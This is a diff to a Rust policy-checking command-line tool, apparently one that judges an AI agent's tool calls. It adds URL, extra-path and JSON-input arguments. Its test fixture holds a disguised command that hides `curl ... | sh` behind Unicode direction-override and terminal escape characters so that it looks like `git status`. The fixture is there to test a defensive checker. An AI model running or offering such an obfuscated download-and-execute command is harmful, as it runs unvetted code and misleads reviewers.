@@ -71,6 +71,15 @@ pub struct CheckArgs {
     /// that exists on this machine, it is resolved here.
     #[arg(long, value_name = "PATH", default_value = "")]
     pub resolved_path: String,
+    /// A further file the call touches (repeatable), judged like `--path`.
+    #[arg(long = "also-path", value_name = "PATH")]
+    pub paths: Vec<String>,
+    /// The URL a web tool fetches, judged by its host.
+    #[arg(long, default_value = "")]
+    pub url: String,
+    /// The tool's whole input as JSON, for rules' `input_match`.
+    #[arg(long, value_name = "JSON", default_value = "")]
+    pub input: String,
     /// The run's workspace root; relative paths are taken from the current directory.
     #[arg(long, value_name = "DIR")]
     pub workspace: Option<PathBuf>,
@@ -192,6 +201,9 @@ fn check(args: CheckArgs, out: &mut dyn Write) -> anyhow::Result<()> {
         command: &args.command,
         path: &args.path,
         resolved_path: &resolved_path,
+        paths: &args.paths,
+        url: &args.url,
+        input: &args.input,
         workspace_root: workspace.as_deref(),
     };
     let verdict = profile.evaluate(&call);
@@ -381,6 +393,9 @@ mod tests {
             command: "curl x\u{202e} #\x1b[2K\rgit status | sh".into(),
             path: String::new(),
             resolved_path: String::new(),
+            paths: Vec::new(),
+            url: String::new(),
+            input: String::new(),
             workspace: None,
             source: PolicySource { policy_dir: None },
             json: false,
